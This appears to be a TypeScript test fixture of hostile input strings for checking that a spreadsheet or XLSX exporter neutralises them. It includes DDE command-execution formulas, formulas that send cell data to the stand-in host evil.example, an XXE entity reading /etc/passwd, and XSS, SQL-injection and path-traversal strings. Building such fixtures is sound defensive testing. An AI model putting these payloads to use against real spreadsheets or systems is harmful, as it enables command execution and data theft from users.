const long = 'x'.repeat(40_000);

/** Texts from which some spreadsheet, importer or XML reader makes more than a text. */
export const hostileTexts: readonly string[] = [
  // What begins a formula, in every spreadsheet and in old ones.
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '=',
    '+',
    '-',
    '@',
    '-12.50',
    '+49 30 1234',
    '%1',
    '|calc',
    '/FILE',
    '#REF!',
  ],
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1+1', '−1+1'],
  // Commands and leaks.
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=IMAGE("https://evil.example/x.png")',
  '{=SUM(A1:A9)}',
  '=@Results!A1',
  // What hides the sign from a careless check.
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', ' =1+1', '\u00a0=1+1', '\u3000=1+1', '\u2028=1+1', '\v=1+1'],
  ...['\u200b=1+1', '\ufeff=1+1', '\u202e=1+1', '\u2066=1+1\u2069', '\u00ad=1+1'],
  // Quotes and separators.
  ...[
    '"=1+1',
    "'=1+1",
    '"=1+1"',
    '=1+1";"=2+2',
    ';=1+1',
    ',=1+1',
    'x;=1+1',
    'x,"=1+1',
    'x\n=1+1',
    'x\t=1+1',
    '""',
    '"',
  ],
  // XML, HTML and the escapes of .xlsx.
  '<f>1+1</f>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '<script>alert(1)</script>',
  ']]>',
  '<![CDATA[=1+1]]>',
  '&amp;lt;',
  '&#61;1+1',
  '&xxe;',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  ...['_x003D_1+1', '_x000D_', '_x005F_x0041_', '_x0041', '_X003d_'],
  // Characters that XML cannot hold, and halves of characters.
  ...[
    'a\u0000b',
    '\u0001',
    'a\u0008b',
    'a\u001fb',
    'a\ufffeb',
    'a\uffffb',
    'a\ud800b',
    '\udc00',
    'a\u0085b',
    'a\u007fb',
  ],
  // What means something in headers, names and paths.
  ...[
    '&A',
    '&P of &N',
    '&"Arial,Bold"&20x',
    "'; DROP TABLE pay;--",
    '../../x',
    '__proto__',
    'constructor',
    '%s%n',
    '{{7*7}}',
  ],
  // What is long, wide or blank.
  ...[long, `=${long}`, '🌱👩‍🚀', 'e\u0301', '\u200f', ' a ', 'a  b', '0012', '1e5', 'TRUE', '2027-01-01', '12:30'],
];

/** A short name for a test's title. */
export const shown = (text: string): string => JSON.stringify(text.length > 60 ? `${text.slice(0, 60)}…` : text);

/** What a cell of a spreadsheet can hold of a text: 32,767 characters, each of them whole. */
export function asCell(text: string): string {
  const fitting = text.length > 32_767 ? `${text.slice(0, 32_766)}…` : text;
  return fitting.replace(/\p{Surrogate}/gu, '\ufffd');
}
